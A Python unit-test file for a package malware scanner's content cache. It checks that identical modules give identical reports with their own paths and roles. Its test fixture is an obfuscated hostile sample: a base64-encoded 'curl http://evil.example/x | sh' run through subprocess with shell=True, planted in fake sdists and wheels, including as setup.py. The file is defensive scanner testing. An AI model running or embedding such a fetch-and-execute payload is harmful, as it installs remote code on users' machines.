"""The per-process content cache (identical modules analysed once) never changes a report:
the same bytes under another path, in another archive or in the same one give the findings a
fresh analysis gives, with their own paths, and reports do not share mutable state."""

from __future__ import annotations

from stockade.core.threats import scan_bytes
from stockade.core.threats.scanner import CACHE
from tests.unit.threats.builders import sdist, wheel

EVIL = (
    "import base64, subprocess\n"
    "def go():\n"
    "    subprocess.Popen(base64.b64decode('Y3VybCBodHRwOi8vZXZpbC5leGFtcGxlL3ggfCBzaA=='),"
    " shell=True)\n"
    "go()\n"
)


def _view(data: bytes, name: str) -> tuple[str, list[tuple[str, str, str, int | None]]]:
    rep = scan_bytes(data, name)
    return rep.verdict, [(f.rule, f.severity, f.path, f.line) for f in rep.findings]


def test_cached_analysis_gives_the_same_report_with_its_own_paths() -> None:
    a = sdist({"setup.py": "from setuptools import setup\nsetup()\n", "one/helper.py": EVIL})
    b = sdist({"setup.py": "from setuptools import setup\nsetup()\n", "two/other.py": EVIL})
    CACHE.clear()
    cold_a = _view(a, "demo-1.0.tar.gz")
    CACHE.clear()
    cold_b = _view(b, "demo-1.0.tar.gz")
    warm_a = _view(a, "demo-1.0.tar.gz")  # helper.py's analysis comes from other.py's
    warm_b = _view(b, "demo-1.0.tar.gz")
    assert warm_a == cold_a and warm_b == cold_b
    assert cold_a[0] != "clean"
    assert any(p.endswith("one/helper.py") for _r, _s, p, _l in cold_a[1])
    assert not any("two/" in p for _r, _s, p, _l in warm_a[1])


def test_role_is_part_of_the_key() -> None:
    # the same source as setup.py (install time) and as a library module (runs when called)
    CACHE.clear()
    as_module = _view(wheel({"demo/mod.py": EVIL}), "demo-1.0-py3-none-any.whl")
    as_setup = _view(sdist({"setup.py": EVIL}), "demo-1.0.tar.gz")
    CACHE.clear()
    assert _view(sdist({"setup.py": EVIL}), "demo-1.0.tar.gz") == as_setup
    assert _view(wheel({"demo/mod.py": EVIL}), "demo-1.0-py3-none-any.whl") == as_module


def test_duplicates_inside_one_archive_keep_both_paths() -> None:
    CACHE.clear()
    data = sdist({"a/x.py": EVIL, "b/x.py": EVIL})
    paths = {p for _r, _s, p, _l in _view(data, "demo-1.0.tar.gz")[1]}
    assert any(p.endswith("a/x.py") for p in paths) and any(p.endswith("b/x.py") for p in paths)
    assert _view(data, "demo-1.0.tar.gz") == _view(data, "demo-1.0.tar.gz")
